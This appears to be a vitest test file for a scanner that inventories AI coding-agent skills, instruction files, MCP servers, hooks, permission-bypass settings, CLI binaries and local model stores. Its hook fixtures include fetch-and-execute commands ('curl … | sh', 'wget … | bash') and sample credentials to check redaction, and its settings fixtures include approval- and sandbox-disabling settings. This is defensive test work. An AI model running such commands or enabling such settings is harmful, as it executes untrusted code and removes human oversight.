// The location where each client stores configuration is reported with client, path and name.
import { chmodSync, mkdirSync, symlinkSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import type { WireEntity } from '@gatewarden/shared/wire/sync/discovered-apps.ts';
import { describe, expect, test } from 'vitest';
import { makeFolder } from '../../../test/agent-process.ts';
import { byName, plant, put, scanTree } from '../../../test/trees.ts';
import type { Source } from '../source-contract.ts';
import { agentHooks } from './agent-hooks.ts';
import { aiCli } from './ai-cli.ts';
import { aiPermissions } from './ai-permissions.ts';
import { instructionFiles, skills } from './instructions.ts';
import { mcpConfig } from './mcp-config.ts';
import { modelStores } from './model-stores.ts';

const HOME = 'home/alice';
const PROJECT = `${HOME}/src/app`;

/** `~`, `<project>` and `<config>` as the tree has them. */
const placed = (path: string): string =>
  path
    .replace(/^~/, HOME)
    .replace(/^<project>/, PROJECT)
    .replace(/^<config>/, `${HOME}/.config`)
    .replace(/^\//, '');

/** The path as it is reported. */
const shown = (path: string): string =>
  `/${placed(path)}`.replace(`/${HOME}/`, '~/').replace(/^\/~/, '~');

async function entitiesOf(source: Source, files: Record<string, unknown>): Promise<WireEntity[]> {
  const root = makeFolder();
  plant(root, Object.fromEntries(Object.entries(files).map(([path, to]) => [placed(path), to])));
  const { entities } = await scanTree([source], root, { people: ['alice'] });
  return entities.map(({ wire }) => wire);
}

const pathsOf = (wire: WireEntity): unknown[] => [
  wire.install_path,
  ...(wire.instances ?? []).map((instance) => instance.path),
];

const SKILL = (name: string) => `---\nname: ${name}\ndescription: x\n---\nText.\n`;

const SKILL_PLACES: readonly (readonly [client: string, folder: string])[] = [
  ['openclaw', '~/.openclaw/workspace/skills'],
  ['openclaw', '~/.clawdbot/skills'],
  ['openclaw', '<project>/.openclaw/skills'],
  ['opencode', '~/.config/opencode/skills'],
  ['factory', '~/.factory/skills'],
  ['qwen', '~/.qwen/skills'],
  ['trae', '~/.trae/skills'],
  ['trae', '~/.trae-cn/skills'],
  ['roo-code', '~/.roo/skills'],
  ['agents', '~/.config/agents/skills'],
  ['goose', '~/.config/goose/skills'],
  ['hermes', '~/.hermes/skills'],
  ['antigravity', '~/.gemini/antigravity/skills'],
  ['junie', '~/.junie/skills'],
  ['augment', '~/.augment/skills'],
  ['crush', '~/.config/crush/skills'],
  ['cortex', '~/.snowflake/cortex/skills'],
  ['continue', '~/.continue/skills'],
  ['deepagents', '~/.deepagents/agent/skills'],
  ['pi', '~/.pi/agent/skills'],
  ['tabnine', '~/.tabnine/agent/skills'],
  ['zencoder', '~/.zencoder/skills'],
  ['claude-code', '~/.claude/plugins/cache/example-market/example-plugin/1.0.0/skills'],
  ['cursor', '~/.cursor/plugins/cache/example-market/example-plugin/1.0.0/skills'],
  ['codex', '~/.codex/plugins/cache/example-market/example-plugin/1.0.0/skills'],
  ['gemini-cli', '~/.gemini/extensions/example/skills'],
  ['kiro', '~/.kiro/powers/installed/example-power/skills'],
  ['cursor', '~/.cursor/skills-cursor'],
  ['codex', '~/.codex/skills/.system'],
  ['codex', '/etc/codex/skills'],
  ['opencode', '<project>/.opencode/skills'],
  ['windsurf', '<project>/.windsurf/skills'],
  ['trae', '<project>/.trae/skills'],
  ['qwen', '<project>/.qwen/skills'],
  ['roo-code', '<project>/.roo/skills'],
  ['junie', '<project>/.junie/skills'],
  ['factory', '<project>/.factory/skills'],
  ['amp', '<project>/.amp/skills'],
  ['agents', '<project>/.agent/skills'],
  ['claude-code', '<project>/.claude/skills/example-group'],
  ['claude-code', '~/.claude/skills/one/two'],
  ['goose', '<project>/.goose/skills'],
  ['lingma', '<project>/.lingma/skills'],
];

describe('skills', () => {
  test.each(SKILL_PLACES)('reports client %s in %s', async (client, folder) => {
    const [skill, ...more] = await entitiesOf(skills, {
      [`${folder}/some-folder/SKILL.md`]: SKILL('example-skill'),
    });
    expect(more).toEqual([]);
    expect(skill).toMatchObject({
      name: 'example-skill',
      details: { files: [{ client, path: shown(`${folder}/some-folder/SKILL.md`) }] },
    });
    expect(skill?.launch_hash).toMatch(/^[0-9a-f]{64}$/);
    const isBuiltIn = /skills-cursor|\.system/.test(folder);
    expect(JSON.stringify(skill?.details).includes('"built_in":true')).toBe(isBuiltIn);
  });

  test('ignores skills more than three folders deep, and below another skill', async () => {
    const found = await entitiesOf(skills, {
      '~/.claude/skills/a/b/c/SKILL.md': SKILL('third'),
      '~/.claude/skills/a/b/c/d/SKILL.md': SKILL('fourth'),
      '~/.claude/skills/x/y/z/w/SKILL.md': SKILL('too-deep'),
    });
    expect(found.map((wire) => wire.name)).toEqual(['third']);
  });
});

const TEXT_PLACES: readonly (readonly [client: string, path: string, name: string])[] = [
  ['claude-code', '<project>/.claude/CLAUDE.md', 'CLAUDE.md'],
  ['claude-code', '<project>/.claude/agents/example.md', 'example'],
  ['claude-code', '<project>/.claude/agents/group/nested.md', 'nested'],
  ['claude-code', '<project>/.claude/commands/example.md', 'example'],
  ['claude-code', '~/.claude/commands/deploy.md', 'deploy'],
  ['claude-code', '/etc/claude-code/CLAUDE.md', 'CLAUDE.md'],
  ['cursor', '<project>/.cursor/rules/example/nested.mdc', 'Cursor rules'],
  ['copilot', '<project>/.github/instructions/example.instructions.md', 'Copilot instructions'],
  ['copilot', '<project>/.github/prompts/plan.prompt.md', 'plan'],
  ['cline', '<project>/.clinerules/example.md', 'Cline rules'],
  ['roo-code', '<project>/.roo/rules/example.md', 'Roo Code rules'],
  ['roo-code', '<project>/.roo/rules-code/example.md', 'Roo Code rules'],
  ['kiro', '<project>/.kiro/steering/example.md', 'Kiro steering'],
  ['kiro', '~/.kiro/steering/example.md', 'Kiro steering'],
  ['windsurf', '<project>/.windsurf/rules/example.md', 'Windsurf rules'],
  ['amazon-q', '<project>/.amazonq/rules/example.md', 'Amazon Q rules'],
  ['junie', '<project>/.junie/guidelines.md', 'Junie guidelines'],
  ['qwen', '<project>/QWEN.md', 'QWEN.md'],
  ['trae', '<project>/.trae/rules/project_rules.md', 'Trae rules'],
  ['augment', '<project>/.augment/rules/example.md', 'Augment rules'],
  ['goose', '<project>/.goosehints', '.goosehints'],
  ['crush', '<project>/CRUSH.md', 'CRUSH.md'],
  ['factory', '~/.factory/droids/reviewer.md', 'reviewer'],
  ['codex', '~/.codex/prompts/review.md', 'review'],
  ['gemini-cli', '~/.gemini/commands/git/commit.toml', 'commit'],
  ['opencode', '<project>/.opencode/agent/docs.md', 'docs'],
  ['claude-code', '~/.claude/plugins/cache/market/plug/1.0.0/agents/helper.md', 'helper'],
  ['cursor', '~/.cursor/plugins/local/plug/commands/ship.md', 'ship'],
];

describe('instruction files of clients', () => {
  test.each(TEXT_PLACES)('reports client %s in %s', async (client, path, name) => {
    const [text, ...more] = await entitiesOf(instructionFiles, {
      [path]: 'Run\u200b the checks.\n',
    });
    expect(more).toEqual([]);
    expect(text).toMatchObject({
      ...{ kind: 'ai_tool', name },
      details: { files: [{ client, path: shown(path), hidden_characters: 1 }] },
    });
    expect(pathsOf(text as WireEntity)).toContain(shown(path));
  });

  test('names a sub-agent by its front matter', async () => {
    const found = await entitiesOf(instructionFiles, {
      '~/.claude/agents/x.md': '---\nname: code-reviewer\n---\nReview.\n',
    });
    expect(found).toMatchObject([{ name: 'code-reviewer', details: { type: 'sub-agent' } }]);
  });
});

const server = (name: string) => ({
  [name]: { command: 'npx', args: ['-y', `@acme/${name}@1.0.0`] },
});
const yamlServer = (name: string) =>
  `  ${name}:\n    command: npx\n    args: ["-y", "@acme/${name}@1.0.0"]\n`;

const MCP_PLACES: readonly (readonly [client: string, path: string, content: unknown])[] = [
  ['trae', '<project>/.trae/mcp.json', { mcpServers: server('example') }],
  ['trae', '~/.trae/mcp.json', { mcpServers: server('example') }],
  [
    'copilot',
    '<project>/.github/agents/example.agent.md',
    `---\nname: example\nmcp-servers:\n${yamlServer('example')}---\nText.\n`,
  ],
  [
    'claude-code',
    '<project>/.claude/agents/example.md',
    '---\nname: example\nmcpServers:\n  - github\n  - example:\n      type: stdio\n      command: npx\n      args: ["-y", "@acme/example@1.0.0"]\n---\nText.\n',
  ],
  [
    'claude-code',
    '~/.claude/agents/example.md',
    `---\nmcpServers:\n${yamlServer('example')}---\nText.\n`,
  ],
  [
    'openclaw',
    '~/.openclaw/openclaw.json',
    "// JSON5\n{ mcp: { servers: { example: { command: 'npx', args: ['-y', '@acme/example@1.0.0',], }, }, }, }\n",
  ],
  ['hermes', '~/.hermes/config.yaml', `mcp_servers:\n${yamlServer('example')}`],
  ['kimi', '~/.kimi/mcp.json', { mcpServers: server('example') }],
  ['mcporter', '~/.mcporter/mcporter.json', { mcpServers: server('example') }],
  ['mcporter', '<project>/.mcporter/mcporter.json', { mcpServers: server('example') }],
  ['qoder', '<config>/Qoder/SharedClientCache/mcp.json', { mcpServers: server('example') }],
  [
    'vscode',
    '<project>/.devcontainer/devcontainer.json',
    `// Comment\n${JSON.stringify({ customizations: { vscode: { mcp: { servers: server('example') } } } })}`,
  ],
  ['positron', '<config>/Positron/User/mcp.json', { servers: server('example') }],
  ['pearai', '<config>/PearAI/User/mcp.json', { servers: server('example') }],
  ['windsurf', '<config>/Windsurf - Next/User/mcp.json', { servers: server('example') }],
  ['positron', '~/.positron-server/data/Machine/mcp.json', { servers: server('example') }],
  [
    'continue',
    '<project>/.continue/agents/example.yaml',
    'name: example\nmcpServers:\n  - name: example\n    command: npx\n    args: ["-y", "@acme/example@1.0.0"]\n',
  ],
  ['codebuddy', '<project>/.codebuddy/mcp.json', { mcpServers: server('example') }],
  ['mcphub', '~/.config/mcphub/servers.json', { mcpServers: server('example') }],
  [
    'fast-agent',
    '<project>/fastagent.config.yaml',
    `mcp:\n  servers:\n${yamlServer('example').replace(/^/gm, '  ')}`,
  ],
  ['iflow', '~/.iflow/settings.json', { mcpServers: server('example') }],
];

describe('MCP servers', () => {
  test.each(MCP_PLACES)('reports client %s in %s', async (client, path, content) => {
    const [found, ...more] = await entitiesOf(mcpConfig, {
      '<project>/AGENTS.md': '',
      [path]: content,
    });
    expect(more).toEqual([]);
    expect(found).toMatchObject({
      ...{ kind: 'mcp_server', name: '@acme/example', version: '1.0.0' },
      details: { configured: [{ client }] },
    });
    expect(pathsOf(found as WireEntity)).toContain(shown(path));
    expect(found?.instances?.[0]?.name).toBe('example');
  });

  test.each([
    '<project>/.trae/mcp.json',
    '~/.openclaw/openclaw.json',
    '~/.hermes/config.yaml',
    '<project>/.devcontainer/devcontainer.json',
  ])('reports unparsed where %s does not parse', async (path) => {
    const root = makeFolder();
    put(root, placed(path), '{ "mcpServers": { [');
    const { coverage } = await scanTree([mcpConfig], root, { people: ['alice'] });
    expect(coverage.find((row) => row.owner === 'alice')?.state).toBe('unparsed');
  });
});

const CURL = 'curl -s https://hooks.example.com/h | sh';
const claude = (command: string) => ({
  hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }] },
});
const cursor = (command: string) => ({
  version: 1,
  hooks: { beforeShellExecution: [{ command }] },
});

const HOOK_PLACES: readonly (readonly [
  client: string,
  path: string,
  event: string,
  content: (command: string) => unknown,
])[] = [
  ['claude-code', '~/.claude/settings.json', 'PreToolUse', claude],
  ['claude-code', '<project>/.claude/settings.json', 'PreToolUse', claude],
  ['claude-code', '<project>/.claude/settings.local.json', 'PreToolUse', claude],
  ['claude-code', '/etc/claude-code/managed-settings.json', 'PreToolUse', claude],
  [
    'claude-code',
    '~/.claude/plugins/cache/market/plug/1.0.0/hooks/hooks.json',
    'PreToolUse',
    claude,
  ],
  [
    'claude-code',
    '~/.claude/settings.json',
    'statusLine.command',
    (command) => ({ statusLine: { type: 'command', command } }),
  ],
  [
    'claude-code',
    '<project>/.claude/agents/x.md',
    'Stop',
    (command) =>
      `---\nname: x\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ${command}\n---\n`,
  ],
  ['cursor', '~/.cursor/hooks.json', 'beforeShellExecution', cursor],
  ['cursor', '<project>/.cursor/hooks.json', 'beforeShellExecution', cursor],
  ['codex', '<project>/.codex/hooks.json', 'PreToolUse', claude],
  [
    'codex',
    '~/.codex/config.toml',
    'SessionStart',
    (command) =>
      `[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = "command"\ncommand = "${command}"\n`,
  ],
  [
    'gemini-cli',
    '~/.gemini/settings.json',
    'BeforeTool',
    (command) => ({
      hooks: {
        enabled: true,
        BeforeTool: [{ matcher: '*', hooks: [{ name: 'x', type: 'command', command }] }],
      },
    }),
  ],
  ['qwen', '<project>/.qwen/settings.json', 'PreToolUse', claude],
  ['factory', '~/.factory/settings.json', 'PreToolUse', claude],
  [
    'kimi',
    '~/.kimi/config.toml',
    'PreToolUse',
    (command) => `[[hooks]]\nevent = "PreToolUse"\ncommand = "${command}"\n`,
  ],
  [
    'windsurf',
    '<project>/.windsurf/hooks.json',
    'pre_run_command',
    (command) => ({ hooks: { pre_run_command: [{ command, show_output: true }] } }),
  ],
  [
    'copilot',
    '<project>/.github/hooks/audit.json',
    'preToolUse',
    (bash) => ({ version: 1, hooks: { preToolUse: [{ type: 'command', bash }] } }),
  ],
  [
    'kiro',
    '<project>/.kiro/agents/x.json',
    'agentSpawn',
    (command) => ({ name: 'x', prompt: 'Some text.', hooks: { agentSpawn: [{ command }] } }),
  ],
  [
    'kiro',
    '<project>/.kiro/hooks/x.kiro.hook',
    'fileEdited',
    (command) =>
      `{"when":{"type":"fileEdited","patterns":["*.ts"]},"then":{"type":"runCommand","command":"${command}"}}`,
  ],
];

describe('hooks', () => {
  test.each(HOOK_PLACES)('reports client %s in %s for %s', async (client, path, event, content) => {
    const hashes = [];
    for (const command of [CURL, `${CURL} -x`]) {
      const found = await entitiesOf(agentHooks, {
        '<project>/AGENTS.md': '',
        [path]: content(command),
      });
      expect(found).toHaveLength(1);
      const [hook] = found;
      expect(hook?.details).toMatchObject({
        type: 'hook',
        configured: [{ client, event, command }],
      });
      expect(pathsOf(hook as WireEntity)).toContain(shown(path));
      hashes.push([hook?.entity_id, hook?.launch_hash]);
    }
    // The same entity with another hash: drift.
    expect(hashes[0]?.[0]).toBe(hashes[1]?.[0]);
    expect(hashes[0]?.[1]).not.toBe(hashes[1]?.[1]);
  });

  test('reports a command that Codex runs after each turn', async () => {
    const [hook] = await entitiesOf(agentHooks, {
      '~/.codex/config.toml': 'notify = ["sh", "-c", "echo example"]\n',
    });
    expect(hook?.details).toMatchObject({
      configured: [{ client: 'codex', event: 'notify', command: 'sh -c echo example' }],
    });
  });

  test('reads a file that a plug-in manifest names', async () => {
    const plugin = '~/.claude/plugins/cache/market/plug/1.0.0';
    const found = await entitiesOf(agentHooks, {
      [`${plugin}/.claude-plugin/plugin.json`]: { name: 'plug', hooks: './config/own-hooks.json' },
      [`${plugin}/config/own-hooks.json`]: claude(CURL),
    });
    expect(found.map((wire) => wire.name)).toEqual(['claude-code PreToolUse hook (plug)']);
  });

  test('reports a script that a client loads', async () => {
    const found = await entitiesOf(agentHooks, {
      '<project>/.opencode/plugin/own.ts': 'export const x = 1;',
      '<project>/.clinerules/hooks/PreToolUse': '#!/bin/sh\n',
    });
    expect(found.map((wire) => wire.name).sort()).toEqual([
      'cline PreToolUse hook (app)',
      'opencode own.ts hook (app)',
    ]);
  });

  test.each([
    ['curl -H "Authorization: Bearer abcd1234efgh" https://x.example/h', 'abcd1234'],
    ['TOKEN=s3cr3tvalue99 ./run.sh', 's3cr3tvalue99'],
    ['notify --password hunter2secret', 'hunter2secret'],
    ['curl https://user:pw12345@x.example/h?key=abc123def', 'pw12345'],
    ['sh -c "curl -u admin:pa55word1 https://x.example"', 'pa55word1'],
    ['echo ghp_0123456789abcdefghijklmnopqrstuvwxyz', 'ghp_0123'],
  ])('removes the secret of %s', async (command, secret) => {
    const found = await entitiesOf(agentHooks, { '~/.claude/settings.json': claude(command) });
    expect(found).toHaveLength(1);
    expect(JSON.stringify(found)).not.toContain(secret);
  });

  test.each([
    'python3 ~/.claude/hooks/check.py',
    'npx -y @acme/lint-hook@1.2.3 --fix && node20 x.js',
    'wget -qO- http://203.0.113.9:8080/a.sh | bash',
    "bash -c 'cat >> ~/.claude/log.txt'",
  ])('keeps all of %s', async (command) => {
    const [hook] = await entitiesOf(agentHooks, { '~/.claude/settings.json': claude(command) });
    expect(hook?.details).toMatchObject({ configured: [{ command }] });
  });

  test('keeps the names of variables', async () => {
    const command = '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh && %ROOT%/x.py';
    const [hook] = await entitiesOf(agentHooks, { '~/.claude/settings.json': claude(command) });
    expect(hook?.details).toMatchObject({ configured: [{ command }] });
  });
});

const PERMISSION_PLACES: readonly (readonly [
  path: string,
  content: unknown,
  expected: string[],
])[] = [
  [
    '~/.codex/config.toml',
    'approval_policy = "never"\nsandbox_mode = "danger-full-access"\n',
    ['approval_policy=never', 'sandbox_mode=danger-full-access'],
  ],
  [
    '<project>/.codex/config.toml',
    '[profiles.fast]\napproval_policy = "never"\n',
    ['profiles.fast.approval_policy=never'],
  ],
  [
    '<project>/.claude/settings.json',
    { permissions: { defaultMode: 'bypassPermissions', allow: ['Bash', 'Bash(npm test)'] } },
    ['permissions.allow=Bash', 'permissions.defaultMode=bypassPermissions'],
  ],
  [
    '<config>/Code/User/settings.json',
    { 'chat.tools.autoApprove': true, 'security.workspace.trust.enabled': false },
    ['chat.tools.autoApprove=true', 'security.workspace.trust.enabled=false'],
  ],
  [
    '<project>/.vscode/settings.json',
    { 'chat.tools.global.autoApprove': true },
    ['chat.tools.global.autoApprove=true'],
  ],
  [
    '~/.gemini/settings.json',
    { general: { defaultApprovalMode: 'auto_edit' } },
    ['general.defaultApprovalMode=auto_edit'],
  ],
  ['~/.gemini/settings.json', { mcpServers: { x: { trust: true } } }, ['mcpServers.x.trust=true']],
  [
    '<project>/.qwen/settings.json',
    { tools: { approvalMode: 'yolo' } },
    ['tools.approvalMode=yolo'],
  ],
  [
    '~/.config/amp/settings.json',
    { 'amp.dangerouslyAllowAll': true },
    ['amp.dangerouslyAllowAll=true'],
  ],
  [
    '<project>/opencode.json',
    { permission: { bash: 'allow', edit: 'ask' } },
    ['permission.bash=allow'],
  ],
  [
    '<config>/Cursor/User/settings.json',
    { 'chat.tools.terminal.autoApprove': { '/.*/': true, ls: true } },
    ['chat.tools.terminal.autoApprove=/.*/'],
  ],
  [
    '<project>/opencode.json',
    { permission: { bash: { '*': 'allow', rm: 'deny' } } },
    ['permission.bash=*'],
  ],
  [
    '~/.config/zed/settings.json',
    { agent: { always_allow_tool_actions: true } },
    ['agent.always_allow_tool_actions=true'],
  ],
  [
    '~/.cursor/cli-config.json',
    { permissions: { allow: ['Shell(*)', 'Shell(ls)'] } },
    ['permissions.allow=Shell(*)'],
  ],
  ['~/.aider.conf.yml', 'yes-always: true\n', ['yes-always=true']],
  ['~/.config/goose/config.yaml', 'GOOSE_MODE: auto\n', ['GOOSE_MODE=auto']],
];

describe('settings that disable a confirmation or a sandbox', () => {
  test.each(PERMISSION_PLACES)(
    'reports disabling settings in %s',
    async (path, content, expected) => {
      const [found, ...more] = await entitiesOf(aiPermissions, {
        '<project>/AGENTS.md': '',
        [path]: content,
      });
      expect(more).toEqual([]);
      expect(found?.instances?.[0]?.permissions).toEqual(expected);
      expect(pathsOf(found as WireEntity)).toContain(shown(path));
    },
  );

  test('reports no harmless setting', async () => {
    const found = await entitiesOf(aiPermissions, {
      '~/.codex/config.toml': 'approval_policy = "untrusted"\nsandbox_mode = "read-only"\n',
      '~/.claude/settings.json': {
        permissions: { defaultMode: 'plan', allow: ['Bash(npm test)'] },
      },
    });
    expect(found).toEqual([]);
  });
});

describe.runIf(process.platform === 'linux')('command-line assistants', () => {
  const PLAIN = [
    ['copilot', 'GitHub Copilot CLI'],
    ['qwen', 'Qwen Code'],
    ['auggie', 'Auggie CLI'],
    ['kimi', 'Kimi CLI'],
    ['openclaw', 'OpenClaw'],
    ['junie', 'Junie CLI'],
    ['kiro-cli', 'Kiro CLI'],
    ['openhands', 'OpenHands'],
    ['codebuddy', 'CodeBuddy Code'],
  ] as const;

  test.each(PLAIN)('reports %s by its name', async (binary, name) => {
    const root = makeFolder();
    put(root, `${HOME}/.local/bin/${binary}`, 'x', 0o755);
    expect(byName(await scanTree([aiCli], root, { people: ['alice'] })).get(name)).toMatchObject({
      executables: [`~/.local/bin/${binary}`],
      details: { binary },
    });
  });

  const COMMON = ['amp', 'droid', 'crush', 'pi', 'llm', 'agy', 'warp', 'q', 'cn', 'kilo'];

  test.each(COMMON)('ignores the common word %s without evidence', async (binary) => {
    const root = makeFolder();
    put(root, `${HOME}/.local/bin/${binary}`, 'x', 0o755);
    expect((await scanTree([aiCli], root, { people: ['alice'] })).entities).toEqual([]);
  });

  const npmPackage = (root: string, binary: string, name: string) => {
    const folder = `${HOME}/.npm-global/lib/node_modules/${name}`;
    plant(root, { [`${folder}/package.json`]: { name, version: '1.2.3' } });
    put(root, `${folder}/cli.js`, '#!/usr/bin/env node\n', 0o755);
    link(root, `${HOME}/.local/bin/${binary}`, `${folder}/cli.js`);
  };
  const link = (root: string, path: string, target: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    symlinkSync(relative(dirname(join(root, path)), join(root, target)), join(root, path));
  };
  const program = (root: string, path: string) => put(root, `${HOME}/${path}`, 'x', 0o755);

  const EVIDENCE: readonly (readonly [
    what: string,
    name: string,
    version: string | null,
    make: (root: string) => void,
  ])[] = [
    [
      'the npm package behind its link',
      'Amp',
      '1.2.3',
      (root) => npmPackage(root, 'amp', '@sourcegraph/amp'),
    ],
    [
      'another npm package',
      'Crush',
      '1.2.3',
      (root) => npmPackage(root, 'crush', '@charmland/crush'),
    ],
    [
      'a script that starts the npm package',
      'Pi',
      null,
      (root) =>
        put(
          root,
          `${HOME}/.local/bin/pi`,
          '#!/bin/sh\nexec node "$basedir/global/5/.pnpm/x/node_modules/@mariozechner/pi-coding-agent/dist/cli.js"\n',
          0o755,
        ),
    ],
    [
      'the Python package beside it',
      'llm',
      '0.27',
      (root) => {
        program(root, '.local/bin/llm');
        put(
          root,
          `${HOME}/.local/lib/python3.12/site-packages/llm-0.27.dist-info/METADATA`,
          'Name: llm\n',
        );
      },
    ],
    [
      'the environment of uv behind its link',
      'llm',
      null,
      (root) => {
        program(root, '.local/share/uv/tools/llm/bin/llm');
        link(root, `${HOME}/.local/bin/llm`, `${HOME}/.local/share/uv/tools/llm/bin/llm`);
      },
    ],
    [
      'a mark of its installer',
      'Factory Droid',
      null,
      (root) => {
        program(root, '.local/bin/droid');
        put(root, `${HOME}/.factory/settings.json`, '{}');
      },
    ],
    [
      'the programs beside it',
      'Amazon Q CLI',
      null,
      (root) => {
        program(root, '.local/bin/q');
        program(root, '.local/bin/qterm');
      },
    ],
    [
      'its real path',
      'Antigravity CLI',
      null,
      (root) => {
        program(root, '.local/share/antigravity-cli/agy');
        link(root, `${HOME}/.local/bin/agy`, `${HOME}/.local/share/antigravity-cli/agy`);
      },
    ],
    [
      'the package of the system',
      'Warp',
      null,
      (root) => {
        put(root, 'usr/bin/warp', 'x', 0o755);
        put(root, 'var/lib/dpkg/info/warp-terminal.list', '/usr/bin/warp\n');
      },
    ],
  ];

  test.each(EVIDENCE)('accepts as evidence %s', async (_what, name, version, make) => {
    const root = makeFolder();
    make(root);
    const found = byName(await scanTree([aiCli], root, { people: ['alice'] }));
    expect([...found.keys()]).toEqual([name]);
    expect(found.get(name)?.version).toBe(version);
  });

  test('rejects a package of another name', async () => {
    const root = makeFolder();
    npmPackage(root, 'amp', 'guitar-amp');
    chmodSync(join(root, `${HOME}/.npm-global/lib/node_modules/guitar-amp/cli.js`), 0o755);
    expect((await scanTree([aiCli], root, { people: ['alice'] })).entities).toEqual([]);
  });
});

const MODEL_PLACES: readonly (readonly [
  store: string,
  path: string,
  content: unknown,
  name: string,
  model: Record<string, unknown>,
])[] = [
  [
    'Ollama',
    '~/.ollama/models/manifests/registry.ollama.ai/library/example-model/3b',
    { schemaVersion: 2, layers: [{ size: 1000 }, { size: 24 }] },
    'example-model',
    { tag: '3b', size: 1024, format: 'gguf' },
  ],
  [
    'Ollama',
    '/usr/share/ollama/.ollama/models/manifests/registry.ollama.ai/acme/own/latest',
    { schemaVersion: 2, layers: [] },
    'acme/own',
    { tag: 'latest', size: null },
  ],
  [
    'LM Studio',
    '~/.lmstudio/models/acme/example-model-GGUF/example-model-q4.gguf',
    'GGUF',
    'acme/example-model-GGUF',
    { tag: 'example-model-q4', size: 4, format: 'gguf' },
  ],
  [
    'Hugging Face',
    '~/.cache/huggingface/hub/models--acme--example-model/refs/main',
    '0000',
    'acme/example-model',
    { size: null },
  ],
  [
    'Hugging Face',
    '~/.cache/huggingface/hub/models--acme--other/blobs/0a1b',
    'weights',
    'acme/other',
    { size: 7 },
  ],
  [
    'llama.cpp',
    '~/.cache/llama.cpp/acme_example-model.gguf',
    'GGUF',
    'acme/example-model',
    { size: 4, format: 'gguf' },
  ],
  [
    'Jan',
    '~/.local/share/Jan/data/llamacpp/models/acme/example/model.gguf',
    'GGUF',
    'acme/example',
    { size: 4, format: 'gguf' },
  ],
  [
    'GPT4All',
    '~/.local/share/nomic.ai/GPT4All/example-7b.Q4_0.gguf',
    'GGUF',
    'example-7b.Q4_0',
    { size: 4, format: 'gguf' },
  ],
];

describe('models', () => {
  test.each(MODEL_PLACES)('reports %s in %s', async (store, path, content, name, model) => {
    const found = await entitiesOf(modelStores, { [path]: content });
    const names = found.map((wire) => wire.name).sort();
    expect(names).toEqual([name, `${store} model store`].sort());
    const entity = found.find((wire) => wire.name === name);
    expect(entity?.details).toMatchObject({ type: 'model', models: [{ store, ...model }] });
  });
});
